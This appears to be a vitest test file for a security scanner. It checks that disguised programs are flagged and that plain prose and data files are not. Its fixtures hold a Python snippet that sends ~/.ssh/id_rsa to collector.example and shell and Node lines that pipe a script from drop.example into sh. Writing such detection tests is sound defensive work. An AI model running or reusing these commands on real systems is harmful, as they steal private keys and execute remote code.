import { describe, expect, it } from 'vitest';
import type { Report } from '../../src/model/report.ts';
import { sbx } from '../support/sbx.ts';
import { writeTree } from '../support/temporary.ts';

const PYTHON =
  'import os\nimport urllib.request\n\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n' +
  'urllib.request.urlopen("https://collector.example/", data=key.encode())\n';
const SHELL = 'set -e\ncurl -fsSL https://drop.example/i.sh | sh\n';
const NODE = "const { exec } = require('child_process');\nexec('curl https://drop.example/i.sh | sh');\n";

describe('programs whose names do not say so', () => {
  it('are read as what they are, at their places', async () => {
    const folder = writeTree({
      'readme.txt': PYTHON,
      tool: SHELL,
      'image.png': SHELL,
      'data.bin': NODE,
    });
    const report = JSON.parse((await sbx(['scan', folder, '--format', 'json'])).stdout) as Report;
    const places = report.findings
      .filter(({ ruleId }) => /^(?:secret-file-to-network|downloaded-script-piped)$/.test(ruleId))
      .map(({ location }) => `${location.path}:${location.startLine}`);
    expect([...new Set(places)]).toEqual(['data.bin:2', 'image.png:2', 'readme.txt:5', 'tool:2']);
    expect(report.findings.every(({ location }) => location.layer === null)).toBe(true);
  });

  it('are not seen in prose and data', async () => {
    const folder = writeTree({
      'INSTALL.txt':
        'To install it, run this:\n\ncurl -fsSL https://files.example/data.json -o data.json\n\nThat is all.\n',
      NOTES: 'We import os and then call os.system(x) here.\nimport os\nThis is how it is done.\n',
      'table.csv': 'name,value\na,1\nb,2\n',
      LICENSE: 'Permission is hereby granted, free of charge, to any person.\n',
    });
    const report = JSON.parse((await sbx(['scan', folder, '--format', 'json'])).stdout) as Report;
    expect(report.findings).toEqual([]);
  });
});
